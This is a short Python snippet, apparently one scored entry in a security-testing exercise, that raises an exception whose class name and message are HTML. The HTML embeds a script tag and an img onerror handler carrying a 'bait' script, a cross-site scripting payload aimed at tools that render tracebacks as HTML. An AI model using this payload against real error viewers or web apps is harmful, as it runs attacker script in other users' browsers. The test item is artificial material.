# /// attack
# tries = "Raises errors whose name, message and lines are HTML."
# points = 10
# honest = true
# ///
# %% before count
text = f"<script>{bait['script']}</script><img src='nowhere:' onerror=\"{bait['script']}\">"
raise type(text, (Exception,), {})(f"\x1b[0m{text}\x1b[31m")
